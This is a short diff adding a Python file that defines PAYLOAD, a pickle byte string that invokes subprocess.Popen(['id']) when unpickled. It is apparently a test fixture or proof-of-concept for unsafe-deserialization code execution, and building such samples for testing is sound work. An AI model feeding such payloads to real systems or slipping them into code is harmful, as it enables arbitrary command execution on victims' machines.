@@ -1,0 +1,3 @@
+"""A process by its class."""
+
+PAYLOAD = b"\x80\x04\x8c\nsubprocess\x8c\x05Popen\x93(]\x8c\x02idatR."
